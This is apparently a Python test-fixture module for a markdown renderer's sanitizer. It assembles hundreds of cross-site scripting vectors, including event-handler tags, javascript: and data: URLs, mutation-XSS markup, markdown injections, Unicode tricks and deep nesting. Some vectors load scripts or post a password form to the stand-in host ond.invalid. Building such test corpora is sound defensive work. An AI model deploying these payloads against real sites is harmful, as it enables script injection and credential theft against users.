"""Attacks on the renderer, built technique by technique: what the public collections teach, in words of our own.

`VEKTORER` holds a technique and a text each; `SAMMANHANG` are the places of a markdown source where it is put. What
each of them would run is `ut(…)`, which the judge listens to (tests/security/domare.py), or a fetch from `ond.invalid`.
"""

from collections.abc import Iterator
from itertools import product

KOD = "ut(1)"
NYRAD, NUL, NOLLBREDD = "\n", "\x00", "\u200b"

# --- handlers, by which element fires them without anybody's help or with a touch --------------------------------

SJALVA = [
    ("img src=x", "onerror"),
    ("img src=x loading=eager", "onerror"),
    ("image src=x", "onerror"),
    ("video src=x", "onerror"),
    ("audio src=x autoplay", "onerror"),
    ("video><source src=x", "onerror"),
    ("input type=image src=x", "onerror"),
    ("object data=x:y", "onerror"),
    ("embed src=x:y", "onload"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("iframe", "onload"),
    ("style", "onload"),
    ("link rel=stylesheet href=data:text/css,", "onload"),
    ("script src=x:y", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocusin"),
    ("p tabindex=0 autofocus contenteditable", "onfocus"),
    ("marquee loop=1 width=0", "onfinish"),
    ("marquee", "onstart"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=.1s", "onend"),
    ("svg><image href=x", "onerror"),
    ("div style=content-visibility:auto", "oncontentvisibilityautostatechange"),
    ("button popovertarget=p>x</button><p popover id=p", "onbeforetoggle"),
    ("a href=# accesskey=x", "onclick"),
    ("ny-sak tabindex=1", "onpointerenter"),
]

STAVNINGAR = [
    "<{tagg} {handelse}={kod}>",
    "<{TAGG} {HANDELSE}='{kod}'>",
    '<{tagg} {handelse}="{kod}"//',
    "<{tagg}\n{handelse}\n=\n{kod}\n>x",
    "<{tagg}/{handelse}={kod}/>",
    "<{tagg}\t\x0c{handelse}\t=`{kod}` {handelse}={kod}>",
    "<{tagg} {handelse}=&#117;&#x74;&lpar;1&rpar;>",
    '"><{tagg} {handelse}={kod}>',
    "<<{tagg} {handelse}={kod}<",
]


def _handelser() -> Iterator[tuple[str, str]]:
    for (tagg, handelse), stavning in product(SJALVA, STAVNINGAR):
        fyllt = stavning.format(tagg=tagg, TAGG=tagg.upper(), handelse=handelse, HANDELSE=handelse.title(), kod=KOD)
        yield "händelse", fyllt


# --- addresses -----------------------------------------------------------------------------------------------------

ADRESSER = [
    f"javascript:{KOD}",
    f"JaVaScRiPt:{KOD}",
    "javascript:1",
    "vbscript:1",
    f"\x01javascript:{KOD}",
    f"java\tscript:{KOD}",
    f"java\nscript:{KOD}",
    f"java{NOLLBREDD}script:{KOD}",
    f"\ufeffjavascript:{KOD}",
    f"java&#115;cript:{KOD}",
    f"javascript&colon;{KOD}",
    f"java&Tab;script:{KOD}",
    f"&#x6a;avascript&#58;{KOD}",
    f"javascript\\:{KOD}",
    f"\\javascript:{KOD}",
    f"javascript:%75t(1)//https://e.se/%0a{KOD}",
    f"javascript://e.se/%0a{KOD}",
    f"feed:javascript:{KOD}",
    f"view-source:javascript:{KOD}",
    f"data:text/html,<script>{KOD}</script>",
    "data:text/html;base64,PHNjcmlwdD51dCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={KOD}>",
    "blob:https://e.se/0",
    "file:///etc/passwd",
    "//ond.invalid/x",
    "\\\\ond.invalid\\x",
    f'https://ond.invalid/"onmouseover="{KOD}',
    f"https://ond.invalid/'onfocus='{KOD}'autofocus='",
    "https://e.se@ond.invalid/",
]
ADRESSFORMER = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    '<a href="{}">x</a>',
]


def _adresser() -> Iterator[tuple[str, str]]:
    for adress, form in product(ADRESSER, ADRESSFORMER):
        yield "adress", form.format(adress)


# --- elements that load, frame, redirect or take over the page -----------------------------------------------------

ELEMENT = f"""
<script>{KOD}</script>
<SCRIPT SRC=//ond.invalid/a.js></SCRIPT>
<script type=module>import('//ond.invalid/b.js')</script>
<script>{KOD}//
<scr<script>ipt>{KOD}</scr</script>ipt>
<script x=">">{KOD}</script y>
<iframe src="javascript:parent.{KOD}"></iframe>
<iframe srcdoc="&lt;script&gt;parent.{KOD}&lt;/script&gt;"></iframe>
<iframe src=//ond.invalid/ sandbox=allow-scripts></iframe>
<frameset onload={KOD}><frame src=//ond.invalid/></frameset>
<object data="javascript:{KOD}"></object>
<object data=//ond.invalid/o type=text/html></object>
<embed src=//ond.invalid/e>
<applet code=x archive=//ond.invalid/j></applet>
<base href=//ond.invalid/>
<base target=_top>
<meta http-equiv=refresh content="0;url=javascript:{KOD}">
<meta http-equiv=refresh content="0;url=//ond.invalid/">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-ut(1)+ADw-/script+AD4-
<link rel=stylesheet href=//ond.invalid/s.css>
<link rel=preload as=script href=//ond.invalid/p.js>
<link rel=prefetch href=//ond.invalid/>
<link rel=import href=//ond.invalid/>
<link rel=manifest href=//ond.invalid/m.json>
<style>@import url(//ond.invalid/i.css);</style>
<style>*{{background:url(//ond.invalid/b)}}</style>
<style><img src="</style><img src=x onerror={KOD}>">
<p style="background:url(//ond.invalid/q)">x</p>
<div style="position:fixed;inset:0;z-index:9">över allt</div>
<form action="javascript:{KOD}"><input type=submit></form>
<form action=//ond.invalid/><input name=losenord autocomplete=current-password></form>
<button form=f formaction="javascript:{KOD}">x</button>
<input formaction=//ond.invalid/ type=submit form=f>
<textarea form=f name=csrf_token></textarea>
<isindex action=//ond.invalid/ type=image>
<keygen autofocus onfocus={KOD}>
<a href=https://e.se target=_blank ping=//ond.invalid/ download onclick={KOD}>x</a>
<a id=document name=forms>x</a><a id=document name=cookie>y</a>
<img id=currentScript name=getElementById src=//ond.invalid/c>
<img srcset="//ond.invalid/1 1x, //ond.invalid/2 2x">
<picture><source srcset=//ond.invalid/3><img></picture>
<video poster=//ond.invalid/4 controls></video>
<audio src=//ond.invalid/5 autoplay></audio>
<track src=//ond.invalid/6 default>
<table background=//ond.invalid/7><td background=//ond.invalid/8>x
<body background=//ond.invalid/9 bgcolor=red>
<bgsound src=//ond.invalid/10>
<map name=m><area href="javascript:{KOD}" coords=0,0,9,9></map>
<dialog open>Logga in igen</dialog>
<template shadowrootmode=open><script>{KOD}</script></template>
<slot onslotchange={KOD}></slot>
<portal src=//ond.invalid/></portal>
<fencedframe></fencedframe>
<!--><script>{KOD}</script>-->
<!--[if gte IE 4]><script>{KOD}</script><![endif]-->
<!-- --!><img src=x onerror={KOD}>
<![CDATA[><script>{KOD}</script>]]>
<?xml-stylesheet href="javascript:{KOD}"?>
<!DOCTYPE html [<!ENTITY x "<script>{KOD}</script>">]>&x;
</section></main></body></html><script>{KOD}</script>
</p></td></table></ul><img src=x onerror={KOD}>
</title></textarea></style></noscript></xmp></script><img src=x onerror={KOD}>
<plaintext><script>{KOD}</script>
<xmp><img src=x onerror={KOD}></xmp>
<noembed><img title="</noembed><img src=x onerror={KOD}>"></noembed>
<span class=fel id=innehall data-live=x aria-live=assertive role=alert>Fel</span>
<h1 hidden>x</h1><main inert>y</main>
"""

# --- foreign namespaces, and markup that becomes something else when it is read twice --------------------------------

FRAMMANDE = f"""
<svg><script>{KOD}</script></svg>
<svg><script href=//ond.invalid/a.js /></svg>
<svg><script>&#117;t&lpar;1&rpar;</script></svg>
<svg><a href="javascript:{KOD}"><text y=9>x</text></a></svg>
<svg><a xlink:href="javascript:{KOD}"><circle r=9 /></a></svg>
<svg><a><animate attributeName=href values=javascript:{KOD} /><text y=9>x</text></a></svg>
<svg><a><set attributeName=xlink:href to=javascript:{KOD} /><text y=9>x</text></a></svg>
<svg><use href=//ond.invalid/u.svg#a /></svg>
<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg' onload='{KOD}'/>#a" /></svg>
<svg><image href=//ond.invalid/i /></svg>
<svg><feImage href=//ond.invalid/f /></svg>
<svg><style>@import '//ond.invalid/s.css'</style></svg>
<svg><style><img src=x onerror={KOD}></style></svg>
<svg><title><img src=x onerror={KOD}></title></svg>
<svg><desc><iframe srcdoc="<script>parent.{KOD}</script>"></desc></svg>
<svg><foreignObject><body onload={KOD}></foreignObject></svg>
<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{KOD}</handler></svg>
<svg><discard onbegin={KOD} /></svg>
<svg><animateMotion onbegin={KOD} dur=1s path=M0,0 /></svg>
<svg xmlns:x=http://www.w3.org/1999/xhtml><x:script>{KOD}</x:script></svg>
<math><a href="javascript:{KOD}">x</a></math>
<math href="javascript:{KOD}"><mi>x</mi></math>
<math><maction actiontype=statusline xlink:href="javascript:{KOD}">x</maction></math>
<math><annotation-xml encoding=text/html><img src=x onerror={KOD}></annotation-xml></math>
<math><mi><img src=x onerror={KOD}></mi></math>
<math><mglyph src=//ond.invalid/g></math>
<math><semantics><annotation encoding=x><script>{KOD}</script></annotation></semantics></math>
<svg></p><style><a title="</style><img src=x onerror={KOD}>">
<svg><p><style><g title="</style><img src=x onerror={KOD}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={KOD}&gt;">
<math><mtext><mglyph><style><math title="</style><img src=x onerror={KOD}>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={KOD}>
<form id=a><div></form><form id=b><input form=a></div></form><img src=x onerror={KOD}>
<table><tr><td><svg><desc><table><tr><td></desc><style><img src=x onerror={KOD}></style>
<select><option><style></option></select><img src=x onerror={KOD}></style>
<select><template><style><!--</template><a rel="--></style></select><img src=x onerror={KOD}>">
<noscript><p title="</noscript><img src=x onerror={KOD}>">
<noframes><p title="</noframes><img src=x onerror={KOD}>">
<textarea><p title="</textarea><img src=x onerror={KOD}>">
<title><p title="</title><img src=x onerror={KOD}>">
<xmp><p title="</xmp><svg onload={KOD}>">
<iframe><p title="</iframe><img src=x onerror={KOD}>">
<a><table><a><img src=x onerror={KOD}></a></table></a>
<b><p><b><p><b></p><img src=x onerror={KOD}></b></p></b>
<p title="&lt;/p>&lt;img src=x onerror={KOD}>">x
<img alt="``onerror={KOD}" src=x>
<div title="`x` onmouseover={KOD} `">x
<a title="a&#34; onmouseover=&#34;{KOD}">x</a>
<svg><![CDATA[</svg><img src=x onerror={KOD}>]]>
<math><![CDATA[<img src=x onerror={KOD}>]]></math>
<svg><!--</svg><img src=x onerror={KOD}>-->
<template><svg><style></template><img src=x onerror={KOD}></style>
<dl><dt><dl><svg><style></dl><img src=x onerror={KOD}>
<ruby><rt><ruby><math><style></ruby><img src=x onerror={KOD}>
<font color=x><p><font color="<img src=x onerror={KOD}>"></p></font>
<h1><h2></h1><svg><style></h2><img src=x onerror={KOD}>
<col><td><tr><svg></tr><style><img src=x onerror={KOD}></style>
"""

# --- what only markdown does ---------------------------------------------------------------------------------------

MARKDOWN = f"""
[x](https://e.se "t" onmouseover={KOD})
[x](https://e.se "\\" onmouseover=\\"{KOD}")
[x](https://e.se 't'onmouseover='{KOD}')
[x](https://e.se "<img src=x onerror={KOD}>")
[<img src=x onerror={KOD}>](https://e.se)
[a](https://e.se)<img src=x onerror={KOD}>(b)
[a [b](javascript:{KOD})](https://e.se)
[![x](javascript:{KOD})](https://e.se)
[![x](x "onerror={KOD}")](javascript:{KOD})
![x" onerror="{KOD}](x)
![x](x" onerror="{KOD})
![x](//ond.invalid/i.png)
![x](https://ond.invalid/i.png "t")
![x][r]⏎⏎[r]: https://ond.invalid/i.png
[r]⏎⏎[r]: javascript:{KOD} "t"
[r][]⏎⏎[r]: <javascript:{KOD}> 't'
[r]⏎⏎[r]: https://e.se "t" onclick="{KOD}
[r]⏎⏎[r]:⏎  javascript:{KOD}⏎  "t"
[<script>]: x⏎⏎[<script>]
[x]: https://e.se/<script>{KOD}</script>⏎⏎[x]
<https://e.se/"onclick={KOD}>
<https://e.se/<script>{KOD}</script>>
<javascript:{KOD}@e.se>
<a@e.se"onclick={KOD}>
<"><img/src=x/onerror={KOD}>"@e.se>
https://e.se/<img src=x onerror={KOD}>
https://e.se/"onmouseover="{KOD}
https://e.se/(javascript:{KOD})
www.ond.invalid/<script>{KOD}</script>
`<img src=x onerror={KOD}>`
``<img src=x onerror={KOD}>` ``
`<script>`{KOD}`</script>`
```html⏎<img src=x onerror={KOD}>⏎```
```"onmouseover="{KOD}⏎x⏎```
~~~⏎</code></pre><img src=x onerror={KOD}>⏎~~~
⏎    </code></pre><img src=x onerror={KOD}>⏎
⏎<div>⏎*x* <img src=x onerror={KOD}>⏎</div>⏎
⏎<div markdown=1>⏎[x](javascript:{KOD})⏎</div>⏎
⏎<details open ontoggle={KOD}>⏎<summary>x</summary>⏎⏎y⏎</details>⏎
⏎<!-- x⏎⏎--><img src=x onerror={KOD}>⏎
⏎<?php⏎?><img src=x onerror={KOD}>⏎
*<img src=x* onerror={KOD}>
**<img src=x onerror=**{KOD}>
_<script_>{KOD}</script>
~~<img~~ src=x onerror={KOD}>
\\<img src=x onerror={KOD}\\>
<img\\ src=x\\ onerror={KOD}>
&lt;img src=x onerror={KOD}&gt;
&amp;lt;script&amp;gt;{KOD}
&#60;script&#62;{KOD}&#x3c;/script>
&#0060script>{KOD}
<img src=x onerror=&#x75t(1)>
klzzwxh:0000<script>{KOD}</script>klzzwxh:0001
\x02wzxhzdk:0\x03<img src=x onerror={KOD}>
\x02amp\x03lt;script>{KOD}
[^1]⏎⏎[^1]: <img src=x onerror={KOD}>
*[HTML]: "><img src=x onerror={KOD}>⏎⏎HTML
[TOC]{{: onclick={KOD} }}
# x {{: onclick="{KOD}" #innehall }}
x{{: style="background:url(//ond.invalid/a)" }}
!!! note "<img src=x onerror={KOD}>"⏎    x
:::html⏎<script>{KOD}</script>⏎:::
$$\\href{{javascript:{KOD}}}{{x}}$$
[[javascript:{KOD}]]
@[x](javascript:{KOD})
[ ] <input type=checkbox onclick={KOD}>
a | b"onclick="{KOD}⏎:--|--:⏎c | <img src=x onerror={KOD}>
a | `b`⏎--|--⏎`<img | src=x onerror={KOD}>`
{{{{constructor.constructor('{KOD}')()}}}}
{{% raw %}}<img src=x onerror={KOD}>{{% endraw %}}
${{{KOD}}} #{{{KOD}}} <%= {KOD} %>
"""

# --- characters that are not what they look like -------------------------------------------------------------------

TECKEN = [
    f"{NUL}<scr{NUL}ipt>{KOD}</scr{NUL}ipt>",
    f"<{NUL}img src=x onerror={KOD}>",
    f"<img{NUL} src=x onerror={NUL}{KOD}>",
    f"<img\x0b src=x\x0bonerror={KOD}>",
    f"<img\u2028src=x\u2029onerror={KOD}>",
    f"<img\xa0src=x\xa0onerror={KOD}>",
    f"<im{NOLLBREDD}g src=x onerror={KOD}>",
    f"<\u0130mg src=x onerror={KOD}>",
    f"<\u017fcript>{KOD}</\u017fcript>",
    f"<\u017fvg onload={KOD}>",
    f"\uff1cimg src=x onerror={KOD}\uff1e",
    f"\u2039script\u203a{KOD}\u2039/script\u203a",
    f"\ud800<img src=x onerror={KOD}>\udfff",
    f"\ufdd0lt;img src=x onerror={KOD}\ufdd0gt;",
    f"&\ufdd0lt;script>{KOD}",
    f"\u202e>{KOD}=rorreno x=crs gmi<\u202c",
    f"<img src=x onerror\u0300={KOD}>",
    f"\x1b[31m<img src=x onerror={KOD}>",
    f"%3Cimg src=x onerror={KOD}%3E",
    f"\\u003cimg src=x onerror={KOD}\\u003e",
    f"+ADw-img src=x onerror={KOD}+AD4-",
    f"<img src=x onerror={KOD}\U000e0001>",
]

# --- depth: parsers flatten what is too deep, and what was inside comes out ------------------------------------------

DJUP = [
    "<div>" * 600 + f"<img src=x onerror={KOD}>",
    "<svg>" * 520 + f"<style><img src=x onerror={KOD}></style>",
    "<b>" * 100 + f"<script>{KOD}</script>" + "</b>" * 100,
    "> " * 30 + f"<img src=x onerror={KOD}>",
    "- " * 30 + f"<img src=x onerror={KOD}>",
    "*" * 60 + f"<img src=x onerror={KOD}>" + "*" * 60,
    "[" * 60 + "x" + f"](javascript:{KOD})" * 60,
    "`" * 61 + f"<img src=x onerror={KOD}>" + "`" * 60,
    "<a href=https://e.se>" * 60 + f"<img src=x onerror={KOD}>",
    "<table><tr><td>" * 60 + f"<script>{KOD}</script>",
]


def _rader(teknik: str, text: str) -> Iterator[tuple[str, str]]:
    for rad in text.strip("\n").split("\n"):
        yield teknik, rad.replace("⏎", "\n")


VEKTORER: list[tuple[str, str]] = [
    *_handelser(),
    *_adresser(),
    *_rader("element", ELEMENT),
    *_rader("namnrymd och mutation", FRAMMANDE),
    *_rader("markdown", MARKDOWN),
    *(("tecken", text) for text in TECKEN),
    *(("djup", text) for text in DJUP),
]

SAMMANHANG = {
    "stycke": "Före {} efter",
    "egen rad": "Text\n\n{}\n\nmer text",
    "länktext": "[{}](https://e.se)",
    "länkadress": "[text]({})",
    "titel": '[text](https://e.se "{}")',
    "bild": "![{}]({} '{}')",
    "tabell": "a | b\n--|--\n{} | x\ny | {}",
    "tabellhuvud": "{} | b\n--|--\nx | y",
    "kod": "före `{}` efter",
    "kodblock": "text\n\n    {}\n\n```\n{}\n```",
    "lista": "- a\n- {}\n    1. {}\n",
    "citat": "> {}\n> > {}",
    "rubrik": "## {}\n\n{}\n---",
    "betoning": "**{}** _{}_ ~~{}~~",
}
